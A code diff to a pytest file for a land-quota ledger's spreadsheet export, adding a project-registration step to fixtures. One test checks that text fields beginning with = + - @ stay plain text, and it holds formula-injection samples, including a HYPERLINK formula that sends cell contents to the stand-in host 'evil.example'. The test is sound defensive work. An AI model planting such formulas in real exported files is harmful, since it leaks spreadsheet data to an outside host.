@@ -10,7 +10,7 @@ from pathlib import Path
 
 import pytest
 from openpyxl import load_workbook
-from quota_support import CITY, DCF, T0, Y
+from quota_support import CITY, DCF, T0, Y, register_fixed_projects
 
 from blueprint.analysis import quota
 from blueprint.analysis.quota.exports import BALANCE_COLUMNS, MOVEMENT_COLUMNS, export, write_export
@@ -20,6 +20,7 @@ from blueprint.layers.store import Store
 
 @pytest.fixture
 def ledger(store: Store) -> Store:
+    register_fixed_projects(store, ["聊城-P1"])
     quota.grant(year=Y, kind="land", county="371502", amount="100", user=CITY, reason="下达",
                 key="g", store=store, county_name="东昌府区", at=T0)
     quota.allocate(year=Y, kind="land", county="371502", project="聊城-P1", amount="12.3456",
@@ -69,6 +70,7 @@ def test_filters_and_bad_requests(ledger: Store, tmp_path: Path) -> None:
 def test_text_is_never_a_formula(store: Store) -> None:
     """Reasons, names, project codes and keys starting with = + - @ stay plain text."""
     evil = '=HYPERLINK("http://evil.example/?x="&A2,"附件")'
+    register_fixed_projects(store, ["-2+3"])
     quota.grant(year=Y, kind="land", county="371502", amount="100", user=CITY,
                 reason="@SUM(A1:A9)", key="=1+1", store=store, county_name="=东昌府区", at=T0)
     quota.grant(year=Y, kind="land", county="371521", amount="100", user=CITY, reason="下达",
